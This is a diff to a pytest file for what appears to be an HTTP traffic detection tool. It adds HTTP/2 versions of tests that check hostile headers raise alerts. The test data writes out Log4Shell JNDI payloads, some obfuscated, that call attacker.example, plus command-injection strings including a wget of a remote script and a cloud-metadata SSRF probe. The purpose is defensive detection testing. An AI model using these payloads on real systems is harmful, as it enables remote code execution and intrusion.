@@ -9,8 +9,11 @@ percent-decoded as before.
 from __future__ import annotations
 
 import pytest
+from hpack import Encoder
+from hyperframe.frame import HeadersFrame, SettingsFrame
 
 from eyes_devine.core.http.framing import HttpLimits
+from eyes_devine.core.http2 import PREFACE
 from eyes_devine.enrich.rule_data import header_rules, rule_book
 from eyes_devine.enrich.rules import RuleSet
 from tests.enrich.test_rules import exchange
@@ -45,7 +48,7 @@ def target_alerts(target: str) -> tuple[str, ...]:
     return RuleSet().match(exchange(target))
 
 
-@pytest.mark.parametrize(("line", "rule"), [
+HEADER_ATTACKS = [
     (b"User-Agent: ${jndi:ldap://attacker.example/a}", "jndi-lookup"),
     (b"X-Api-Version: ${${lower:j}${lower:n}${lower:d}i:ldap://x.example/a}", "jndi-lookup"),
     (b"Referer: ${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", "jndi-lookup"),
@@ -58,13 +61,16 @@ def target_alerts(target: str) -> tuple[str, ...]:
     (b"X-Custom: `id`", "command-injection"),
     (b"X-Custom: x && wget http://attacker.example/x.sh", "command-injection"),
     (b"Referer: http://[fd00:ec2::254]/latest/meta-data/ $(true)", "ssrf-metadata"),
-])
+]
+
+
+@pytest.mark.parametrize(("line", "rule"), HEADER_ATTACKS)
 def test_each_header_attack_is_found_while_parsing(line, rule):
     alerts = with_header(line)
     assert rule in alerts, alerts
 
 
-@pytest.mark.parametrize("line", [
+ORDINARY_HEADERS = [
     b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
     b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
     b"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
@@ -76,7 +82,10 @@ def test_each_header_attack_is_found_while_parsing(line, rule):
     b"X-Note: fn() {} in JavaScript",
     b"If-None-Match: \"a9fe0c1e-169-254\"",
     b"Forwarded: for=192.0.2.60;proto=http;by=203.0.113.43",
-])
+]
+
+
+@pytest.mark.parametrize("line", ORDINARY_HEADERS)
 def test_ordinary_headers_raise_nothing(line):
     assert with_header(line) == ()
 
@@ -204,3 +213,26 @@ def test_hostile_targets_cost_linear_time(target):
 
 def test_a_hostile_head_costs_linear_time():
     with_header(b"X: " + b"${:-" * 15000)
+
+
+def over_http2(line: bytes) -> tuple[str, ...]:
+    """The alerts the core gives an HTTP/2 request carrying header ``line`` (h2c, prior knowledge)."""
+    name, value = line.split(b":", 1)
+    block = Encoder().encode([(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"),
+                              (b":authority", b"shop.example"), (name.lower(), value.strip())])
+    request = HeadersFrame(1, data=block, flags=("END_HEADERS", "END_STREAM")).serialize()
+    response = HeadersFrame(1, data=Encoder().encode([(b":status", b"200")]),
+                            flags=("END_HEADERS", "END_STREAM")).serialize()
+    conn = Conn().client(PREFACE + SettingsFrame(0).serialize() + request).server(response)
+    [exchange_] = conn.close()
+    return exchange_.alerts
+
+
+@pytest.mark.parametrize(("line", "rule"), HEADER_ATTACKS)
+def test_each_header_attack_is_found_over_http2_too(line, rule):
+    assert rule in over_http2(line)
+
+
+@pytest.mark.parametrize("line", ORDINARY_HEADERS)
+def test_ordinary_headers_raise_nothing_over_http2(line):
+    assert over_http2(line) == ()
